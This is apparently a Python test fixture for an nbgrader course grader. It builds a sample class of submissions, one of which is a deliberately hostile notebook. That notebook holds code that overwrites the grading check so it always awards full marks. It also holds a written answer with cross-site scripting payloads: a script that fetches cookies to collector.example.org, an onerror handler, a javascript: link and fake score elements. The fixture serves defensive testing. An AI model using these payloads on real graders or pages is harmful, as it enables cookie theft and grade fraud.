"""A class of ten in an exchange: honest ones of every kind that a sample class has, a hostile one, one without a notebook."""

import json
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import nbformat

from grader.demo.simulate import chapter_secrets, submission
from grader.demo.students import KINDS, SampleStudent, sample_class
from grader.threads import ONE_THREAD

CHAPTER, NOTEBOOK = "01_perceptron", "perceptron"
COURSE = "perceptron-to-policy"
# The first two take their time limits; the third gives its place to the hostile one.
LEFT_OUT = {"endless loop", "dead kernel", "untouched"}
HOSTILE = "mallory"
# In place of an answer, an attack on what grades it; and a written answer that attacks its reader.
ATTACK = """
import sys
import course_utils.checks as checks
checks.check = check = lambda *args: 2.0
sys.modules["course_utils.checks.check"] = sys.modules["grader"] = checks
"""
WRITTEN = """The bound is $R^2 / \\gamma^2$, and $\\frac{$ is no formula; it costs $5.

<script>document.title = "taken over"; fetch("https://collector.example.org/cookies")</script>
<img src="https://collector.example.org/seen.png" onerror="document.title = 'taken over'">
![seen](https://collector.example.org/seen-too.png)

[my score](javascript:document.title='taken-over') <span class="btn full-credit">3 of 3</span>
<a id="perceptron-written" class="score tabbable">5 of 3</a> <input class="score tabbable" name="score">
"""


def start(folder: Path, *arguments: str, home: Path) -> subprocess.Popen:
    """Start `python -m ...` in a course's folder, as a person with this home."""
    environment = {"PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin", "HOME": str(home), **ONE_THREAD}
    command = [sys.executable, "-m", *arguments]
    return subprocess.Popen(
        command, cwd=folder, env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
    )


def finish(process: subprocess.Popen, *, status: int = 0) -> None:
    """Wait for it. AssertionError with what it wrote where it ends otherwise than with this status."""
    said, _ = process.communicate(timeout=180)
    assert process.returncode == status, f"{process.args!r}: {said}"


def python(folder: Path, *arguments: str, home: Path) -> None:
    """Run `python -m ...` in a course's folder to its end."""
    finish(start(folder, *arguments, home=home))


def hand_in(course: Path, students: Path, home: Path) -> list[SampleStudent]:
    """Ten submissions in the exchange of the course, where `nbgrader submit` puts them, and the roster in its gradebook.

    students: an empty folder for the work of the one who really runs `nbgrader submit`. Returns the class; that one, who
    holds misconceptions, comes first.
    """
    exchange = course / "classroom" / "exchange"
    released = nbformat.read(exchange / COURSE / "outbound" / CHAPTER / f"{NOTEBOOK}.ipynb", as_version=4)
    everyone = sample_class(len(KINDS), 0, chapter_secrets(CHAPTER, released))
    honest = sorted((s for s in everyone if s.kind not in LEFT_OUT), key=lambda s: s.kind != "misconceptions")
    assert len(honest) == 9 and {"misconceptions", "reference", "no notebook"} <= {s.kind for s in honest}
    for student in honest[1:]:
        _put(exchange, student.id, submission(student, released))
    _put(exchange, HOSTILE, _hostile(next(s for s in honest if s.kind == "reference"), released))
    (students / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.Exchange.root = {str(exchange)!r}\nc.CourseDirectory.course_id = {COURSE!r}\n"
    )
    (students / CHAPTER).mkdir()
    (students / CHAPTER / f"{NOTEBOOK}.ipynb").write_bytes(submission(honest[0], released))
    submitting = start(students, "nbgrader", "submit", CHAPTER, "--student", honest[0].id, home=home)
    hostile = SampleStudent(HOSTILE, "Mallory", "O'Neill <b>", "hostile", {})
    rows = [f'{s.id},{s.first},"{s.last}",{s.id}@example.org' for s in [*honest, hostile]]
    (course / "students.csv").write_text("\n".join(["id,first_name,last_name,email", *rows, ""]))
    python(course, "nbgrader", "db", "student", "import", "students.csv", home=home)
    finish(submitting)
    return [*honest, hostile]


def _put(exchange: Path, student: str, notebook: bytes) -> None:
    """What `nbgrader submit` leaves behind."""
    when = "2026-02-02 09:00:00.000000 UTC"
    folder = exchange / COURSE / "inbound" / f"{student}+{CHAPTER}+{when}+c2VjcmV0c2Vj"
    folder.mkdir(parents=True)
    (folder / f"{NOTEBOOK}.ipynb").write_bytes(notebook)
    (folder / "timestamp.txt").write_text(when)
    (folder / "submission_secret.txt").write_text(f"the secret of {student}")


def _hostile(honest: SampleStudent, released: nbformat.NotebookNode) -> bytes:
    notebook = nbformat.reads(submission(honest, released).decode(), as_version=4)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == f"{NOTEBOOK}-sigmoid":
            cell.source = f"{ATTACK}\ndef sigmoid(z):\n    return 'all points'\n"
        if cell.metadata.get("nbgrader", {}).get("grade_id") == f"{NOTEBOOK}-written":
            cell.source = WRITTEN
    # In every kind of cell that comes before the controls, where the first of a name would be found.
    for new in (nbformat.v4.new_raw_cell, nbformat.v4.new_markdown_cell, nbformat.v4.new_code_cell):
        notebook.cells.insert(0, new(WRITTEN))
    return json.dumps(notebook).encode()


def copy(course: Path, target: Path) -> Path:
    """The course as it stands in another folder, its environment shared."""
    return Path(shutil.copytree(course, target, symlinks=True))


def scores(course: Path) -> dict[str, dict[str, tuple]]:
    """By student and grade id: (automatic score, the score of a person, whether a person has to look)."""
    query = """SELECT submitted_assignment.student_id, base_cell.name, auto_score, manual_score, needs_manual_grade FROM grade
        JOIN base_cell ON base_cell.id = grade.cell_id
        JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id
        JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id"""
    found: dict[str, dict[str, tuple]] = {}
    with sqlite3.connect(course / "classroom" / "gradebook.db") as gradebook:
        for student, cell, *score in gradebook.execute(query):
            found.setdefault(student, {})[cell] = tuple(score)
    return found
